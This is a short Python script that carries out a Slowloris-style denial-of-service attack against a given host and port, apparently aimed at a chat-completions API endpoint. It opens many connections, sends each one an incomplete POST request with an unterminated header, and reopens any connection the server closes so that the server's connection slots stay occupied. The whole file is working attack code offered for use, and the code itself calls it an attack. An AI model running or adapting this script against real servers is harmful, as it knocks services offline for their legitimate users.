#!/usr/bin/python3 -I
"""Hold a server's places by requests that are begun and never ended, without a key.

`half_sent.py HOST PORT COUNT SECONDS`: COUNT connections at once, each begun again when the server
ends it. Prints how many requests were begun.
"""

from __future__ import annotations

import selectors
import socket
import sys
import time

REQUEST = b"POST /v1/chat/completions HTTP/1.1\r\nHost: rack\r\nContent-Length: 9\r\nX-Slow: "


class Attack:
    """Connections to one server, all of them kept busy."""

    def __init__(self, host: str, port: int) -> None:
        self._server = (host, port)
        self._ready = selectors.DefaultSelector()
        self.begun = 0

    def call(self) -> None:
        """Open one more connection."""
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex(self._server)
        self._ready.register(connection, selectors.EVENT_WRITE)

    def go_on(self) -> None:
        """Begin a request on each new connection, and call again where one was ended."""
        for key, event in self._ready.select(0.2):
            connection = key.fileobj
            assert isinstance(connection, socket.socket)
            if not self._is_kept(connection, is_new=bool(event & selectors.EVENT_WRITE)):
                self._ready.unregister(connection)
                connection.close()
                self.call()

    def _is_kept(self, connection: socket.socket, *, is_new: bool) -> bool:
        try:
            if not is_new:
                return bool(connection.recv(4096))
            connection.send(REQUEST)
        except OSError:
            return False
        self.begun += 1
        self._ready.modify(connection, selectors.EVENT_READ)
        return True


def main(host: str, port: str, count: str, seconds: str) -> None:
    """Attack for so long."""
    attack = Attack(host, int(port))
    for _ in range(int(count)):
        attack.call()
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        attack.go_on()
    print(attack.begun)


if __name__ == "__main__":
    main(*sys.argv[1:])
